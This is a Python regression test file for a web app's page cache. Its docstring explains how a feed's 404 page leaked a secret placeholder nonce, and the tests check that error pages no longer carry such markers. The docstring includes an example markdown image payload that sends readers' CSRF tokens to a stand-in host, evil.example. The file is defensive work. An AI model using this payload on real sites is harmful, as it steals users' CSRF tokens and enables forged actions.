"""attack4: the page markers' secret nonce leaked in a feed's error page.

A stored page's CSRF token is a placeholder, __ff<nonce>-csrf__, filled in every response
(user text included: the nonce is what keeps readers from writing one). The nonce "never
leaves the server, since every response is filled before it is sent" (markers.py); but
store_page returned a response whose type was not the view's page type (a feed's 404 is
an HTML page, the feed's type is Atom) without filling it. GET /feeds/nope.atom showed
the nonce, the CSRF placeholder and every hole's mark. With it, a reply holding
![](https://evil.example/?t=__ff<nonce>-csrf__) sent each reader's CSRF token away."""

import re

from community.web.pagecache.markers import markers

MARK = re.compile(rb"__ff[0-9a-f]{32}-(csrf|submit|next)__|<!--ff[0-9a-f]{32}:")


def test_a_feeds_error_page_carries_no_mark(app):
    client = app.test_client()
    for path in ("/feeds/nope.atom", "/feeds/nope/x.atom"):
        response = client.get(path)
        assert response.status_code == 404
        assert response.mimetype == "text/html"
        assert MARK.search(response.data) is None, path
        with app.app_context():
            assert markers().csrf_bytes not in response.data


def test_a_feed_itself_still_works(app):
    client = app.test_client()
    response = client.get("/feeds/nope.atom", headers={"Accept": "application/atom+xml"})
    assert MARK.search(response.data) is None
